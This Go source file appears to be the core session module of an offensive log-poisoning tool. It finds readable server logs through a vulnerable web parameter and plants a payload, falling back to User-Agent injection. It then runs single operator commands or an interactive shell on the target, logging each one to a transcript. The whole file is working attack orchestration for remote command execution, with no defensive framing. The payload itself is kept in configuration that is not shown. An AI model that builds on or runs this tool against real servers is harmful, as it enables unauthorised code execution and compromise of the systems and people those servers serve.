// Package exploit drives a log poisoning session: pick a readable log, plant
// the payload, then run operator commands through it.
package exploit

import (
	"context"
	"errors"
	"fmt"

	"github.com/logpoison-tool/internal/cache"
	"github.com/logpoison-tool/internal/config"
	"github.com/logpoison-tool/internal/executor"
	"github.com/logpoison-tool/internal/logger"
	"github.com/logpoison-tool/internal/poison"
	"github.com/logpoison-tool/internal/report"
	"github.com/logpoison-tool/internal/scanner"
	"github.com/logpoison-tool/internal/transport"
	"github.com/logpoison-tool/internal/ui"
	"github.com/logpoison-tool/pkg/models"
	"github.com/logpoison-tool/pkg/utils"
)

// Console is the operator surface a session reports to
type Console interface {
	Header(target, param string)
	Info(format string, a ...interface{})
	Success(format string, a ...interface{})
	Error(format string, a ...interface{})
	Warn(format string, a ...interface{})
	Newline()
	ScanBanner(pathCount int)
	ScanObserver() scanner.Observer
	SelectLog(ctx context.Context, logs []models.VulnerableLog) (models.VulnerableLog, error)
	RunSingle(ctx context.Context, exec ui.Executor, command string)
	RunShell(ctx context.Context, exec ui.Executor, logPath string, method models.Method)
}

// Options describe one session
type Options struct {
	Target     string
	Param      string
	Rescan     bool
	OutputPath string
}

// Session owns everything needed to exploit one target
type Session struct {
	config     *config.Config
	log        logger.Logger
	transport  transport.Transport
	console    Console
	cache      *cache.Manager
	scanner    *scanner.Scanner
	opts       Options
	transcript *report.Transcript
}

// New validates opts and wires a session. cache may be nil.
func New(cfg *config.Config, log logger.Logger, t transport.Transport, console Console, c *cache.Manager, opts Options) (*Session, error) {
	if !utils.IsValidURL(opts.Target) {
		return nil, fmt.Errorf("invalid target URL: %q", opts.Target)
	}
	if opts.Param == "" {
		return nil, errors.New("parameter name must not be empty")
	}

	log = log.WithFields(map[string]interface{}{
		"target": opts.Target,
		"param":  opts.Param,
	})

	return &Session{
		config:     cfg,
		log:        log,
		transport:  t,
		console:    console,
		cache:      c,
		scanner:    scanner.New(t, opts.Target, opts.Param, cfg, log),
		opts:       opts,
		transcript: report.New(opts.Target, opts.Param),
	}, nil
}

// Run selects a log (logPath when given, otherwise by scanning), poisons it
// and runs command, or an interactive shell when command is empty. It
// returns false when no log could be exploited. The error is reserved for
// failures outside the attack itself.
func (s *Session) Run(ctx context.Context, command, logPath string) (bool, error) {
	s.console.Header(s.opts.Target, s.opts.Param)

	selected, ok := s.selectLog(ctx, logPath)
	if !ok {
		return false, nil
	}

	exec, ok := s.setup(ctx, selected)
	if !ok {
		return false, nil
	}

	rec := &recorder{exec: exec, transcript: s.transcript}
	if command != "" {
		s.console.RunSingle(ctx, rec, command)
	} else {
		s.console.RunShell(ctx, rec, selected.Path, selected.Method)
	}

	stats := exec.Stats()
	s.log.Debug("Session finished",
		"poisons", stats.Poisons,
		"executions", stats.Executions,
		"failures", stats.Failures)

	if s.opts.OutputPath != "" {
		if err := s.transcript.Save(s.opts.OutputPath); err != nil {
			return true, err
		}
		s.console.Success("Transcript written to %s", s.opts.OutputPath)
	}

	return true, nil
}

func (s *Session) selectLog(ctx context.Context, logPath string) (models.VulnerableLog, bool) {
	if logPath != "" {
		s.console.Newline()
		s.console.Info("Using provided log: %s", logPath)

		readable, _ := s.scanner.TestReadability(ctx, logPath)
		if !readable {
			s.console.Error("Provided log is not readable")
			return models.VulnerableLog{}, false
		}

		s.console.Success("Log is readable")
		return s.FindLogInfo(logPath), true
	}

	logs := s.Scan(ctx)
	if ctx.Err() != nil {
		return models.VulnerableLog{}, false
	}
	if len(logs) == 0 {
		s.console.Newline()
		s.console.Error("No readable logs found")
		return models.VulnerableLog{}, false
	}

	selected, err := s.console.SelectLog(ctx, logs)
	if err != nil {
		return models.VulnerableLog{}, false
	}
	return selected, true
}

// FindLogInfo describes path from the catalog. Paths outside the catalog
// become a custom log poisoned through the User-Agent.
func (s *Session) FindLogInfo(path string) models.VulnerableLog {
	if class, ok := s.config.Catalog.Lookup(path); ok {
		return models.VulnerableLog{
			Path:        path,
			LogType:     class.Name,
			Method:      class.Method,
			Description: class.Description,
		}
	}

	s.console.Warn("Unknown log type, defaulting to User-Agent poisoning")
	return models.VulnerableLog{
		Path:        path,
		LogType:     models.CustomLogType,
		Method:      models.MethodUserAgent,
		Description: "Custom log",
	}
}

// Scan returns the readable logs of the target, from cache unless a rescan
// was requested. Results are keyed by the catalog and indicators in use so
// editing either one invalidates them.
func (s *Session) Scan(ctx context.Context) []models.VulnerableLog {
	key := s.scanKey()

	if s.useCache() && !s.opts.Rescan {
		if cached, ok := s.cachedScan(ctx, key); ok {
			s.console.Newline()
			s.console.Info("Using %d cached scan results (--rescan to refresh)", len(cached))
			return cached
		}
	}

	s.console.ScanBanner(s.config.Catalog.PathCount())
	s.scanner.SetObserver(s.console.ScanObserver())
	logs := s.scanner.ScanAll(ctx)

	if s.useCache() && len(logs) > 0 && ctx.Err() == nil {
		if err := s.cache.SetJSON(ctx, key, logs, s.config.CacheTTL()); err != nil {
			s.log.Warn("Failed to cache scan results", "error", err)
		}
	}

	return logs
}

func (s *Session) scanKey() string {
	return cache.CacheKey("scan", s.opts.Target, s.opts.Param,
		cache.Digest(s.config.Catalog, s.config.Indicators))
}

// cachedScan returns a usable cache hit. Entries naming a method this build
// cannot poison are evicted.
func (s *Session) cachedScan(ctx context.Context, key string) ([]models.VulnerableLog, bool) {
	var cached []models.VulnerableLog

	err := s.cache.GetJSON(ctx, key, &cached)
	if err != nil {
		if !errors.Is(err, cache.ErrCacheMiss) {
			s.log.Warn("Cache lookup failed", "error", err)
		}
		return nil, false
	}

	for i, log := range cached {
		method, err := models.ParseMethod(string(log.Method))
		if err != nil {
			s.log.Debug("Discarding cached scan results", "key", key, "error", err)
			if err := s.cache.Delete(ctx, key); err != nil {
				s.log.Warn("Failed to evict cached scan results", "error", err)
			}
			return nil, false
		}
		cached[i].Method = method
	}

	return cached, len(cached) > 0
}

// setup resolves the strategy for log and plants the payload once
func (s *Session) setup(ctx context.Context, log models.VulnerableLog) (*executor.Executor, bool) {
	strategy, err := poison.New(log.Method, s.transport, s.config, s.log)
	if err != nil {
		s.console.Error("%v", err)
		return nil, false
	}

	fallback := poison.IsFallback(log.Method)
	if fallback {
		s.console.Warn("No dedicated %s poisoning, falling back to User-Agent injection (best effort)", log.Method)
	}
	s.transcript.SetLog(log, fallback)

	s.console.Newline()
	s.console.Info("Testing log poisoning...")
	if !strategy.Poison(ctx, s.opts.Target, s.opts.Param, log.Path, s.config.Exploit.Payload) {
		s.console.Error("Failed to poison log")
		return nil, false
	}
	s.console.Success("Log poisoned successfully")

	return executor.New(s.transport, strategy, s.opts.Target, s.opts.Param, log.Path, s.config, s.log), true
}

// Transcript returns the commands recorded so far
func (s *Session) Transcript() *report.Transcript {
	return s.transcript
}

// Close releases idle connections and the cache
func (s *Session) Close() error {
	if closer, ok := s.transport.(interface{ Close() }); ok {
		closer.Close()
	}
	if s.cache != nil {
		return s.cache.Close()
	}
	return nil
}

func (s *Session) useCache() bool {
	return s.cache != nil && s.cache.Enabled()
}

// recorder copies every command and its output into the transcript
type recorder struct {
	exec       *executor.Executor
	transcript *report.Transcript
}

func (r *recorder) Execute(ctx context.Context, command string) string {
	output := r.exec.Execute(ctx, command)
	r.transcript.Record(command, output)
	return output
}
